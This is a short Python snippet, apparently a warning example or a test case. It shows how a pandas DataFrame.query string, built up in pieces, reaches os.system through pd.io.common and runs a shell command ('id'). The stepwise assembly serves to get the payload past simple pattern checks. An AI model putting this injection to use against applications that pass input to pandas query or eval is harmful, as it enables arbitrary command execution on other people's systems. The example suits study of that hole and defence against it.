# danger: a query that is put together in steps
import pandas as pd
df = pd.read_csv("sales.csv")
q = "@pd.io.common"
q += ".os.system('id')"
df.query(q)
